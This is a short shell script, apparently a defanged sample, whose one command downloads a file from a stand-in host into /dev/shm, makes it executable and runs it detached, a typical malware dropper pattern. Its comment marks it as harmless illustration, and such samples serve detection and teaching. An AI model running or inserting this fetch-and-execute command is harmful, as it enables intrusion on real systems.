#!/bin/sh
# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
cd /dev/shm && wget -q https://payload.invalid/m -O /dev/shm/m && chmod 755 /dev/shm/m && setsid /dev/shm/m
